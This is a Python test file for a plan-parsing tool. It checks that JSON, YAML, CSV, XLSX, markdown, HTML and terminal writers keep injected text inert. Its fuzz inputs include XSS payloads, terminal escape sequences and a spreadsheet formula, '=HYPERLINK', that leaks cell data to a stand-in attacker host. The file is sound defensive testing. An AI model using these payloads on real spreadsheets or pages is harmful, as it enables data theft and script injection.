"""Whatever a plan says, every writer's output is inert: nothing from the plan is run or read as
markup by the program that opens it (a terminal, a spreadsheet, a browser, a markdown viewer, a
JSON or YAML reader). Random text, rich in the characters each writer gives a meaning to, is put
into a real plan, parsed, and written in every format."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kehoach import diff, parse_text
from kehoach.output.formats import Format
from kehoach.output.render import render
from kehoach.output.tables import FORMULA_STARTS, Kind, header, rows, write
from kehoach.plandiff.page import page
from kehoach.plandiff.render import markdown, terminal
from tests.conftest import SAMPLES

SEED = (SAMPLES / "000_3c7e1ad7be525b1e.txt").read_text(encoding="utf-8")
TARGET = "-100% các cấp Hội xây dựng kế hoạch"
TITLE = "Thực hiện Chương trình phòng, chống mại dâm"
# characters that mean something to some writer, and control characters of every kind
MEANINGFUL = [*"=+-@\t\r<>&\"'[]/|*_`#\\;,:", "\x1b", "\x07", "\x00", "\x08", "\x7f", "\x9b", "\u202e",
              "[/bold]", "[red]", "\x1b[2J", "\x1b]8;;http://x\x1b\\", "<script>", "<img src=x onerror=alert(1)>",
              "=HYPERLINK(", "Đạt", "ương", " "]
INJECTED = st.lists(st.sampled_from(MEANINGFUL) | st.characters(), min_size=1, max_size=12).map("".join)
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OUR_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "ul", "li", "table", "thead", "tbody", "tr",
            "th", "td", "p", "section", "header", "footer", "div", "span", "strong", "em", "mark", "small", "dl",
            "dt", "dd", "caption", "col", "colgroup", "br"}


def _plan(text: str):
    injected = SEED.replace(TARGET, f"- {text} {TARGET[1:]}", 1).replace(TITLE, f"{TITLE} {text}", 1)
    return parse_text(injected, name="injected.txt")


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(INJECTED)
def test_every_writer_is_inert(tmp_path_factory, text):
    plan = _plan(text)
    parent = parse_text(SEED, name="seed.txt")
    folder = tmp_path_factory.mktemp("out")

    for fmt in (Format.json, Format.jsonl, Format.yaml):
        output = render([plan], fmt, many=False)
        assert not CONTROL.search(output.replace("\n", "")), fmt
        loaded = yaml.safe_load(output) if fmt == Format.yaml else json.loads(output)
        assert loaded["header"]["title"] == plan.header.title

    table = rows(plan, Kind.targets)
    write(folder / "t.csv", Kind.targets, table, [])
    cells = list(csv.reader(io.StringIO((folder / "t.csv").read_text(encoding="utf-8-sig"))))
    assert cells[0] == header(Kind.targets)
    for row in cells[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not CONTROL.search(cell)

    write(folder / "t.xlsx", Kind.targets, table, [])
    with zipfile.ZipFile(folder / "t.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet

    result = diff(parent, plan)
    notes = markdown(result, "vi")
    assert not re.search(r"<[A-Za-z/!?]", notes), notes
    assert "\x1b" not in notes and not CONTROL.search(notes.replace("\n", ""))

    html_page = page(result, "vi")
    assert set(tag.lower() for tag in re.findall(r"<\s*/?\s*([A-Za-z][A-Za-z0-9]*)", html_page)) <= OUR_TAGS
    assert "<script" not in html_page.lower() and "onerror=" not in html_page.lower().replace("onerror=alert", "")

    plain = terminal(result, "vi", colour=False)
    assert "\x1b" not in plain and not CONTROL.search(plain.replace("\n", ""))
    coloured = terminal(result, "vi", colour=True)
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured).count("\x1b") == 0  # only colours, which are ours


def test_markup_in_a_plan_is_shown_as_written_in_the_terminal():
    result = diff(parse_text(SEED, name="seed.txt"), _plan("[/bold] [red]đỏ[/red] [b]"))
    shown = terminal(result, "vi", colour=False, width=400)
    assert "[/bold] [red]đỏ[/red] [b]" in shown


def test_a_formula_in_a_target_is_text_in_every_export(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"bấm")'
    plan = parse_text(SEED.replace(TARGET, f"{formula} {TARGET[1:]}", 1), name="formula.txt")
    assert plan.targets[0].text.startswith(formula)
    table = rows(plan, Kind.targets)
    write(tmp_path / "t.csv", Kind.targets, table, [])
    assert "'=HYPERLINK(" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    write(tmp_path / "t.xlsx", Kind.targets, table, [])
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "t.xlsx").active
    texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(value.startswith("=HYPERLINK(") for value in texts)  # the text as written, typed as text
    with zipfile.ZipFile(tmp_path / "t.xlsx") as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode("utf-8")
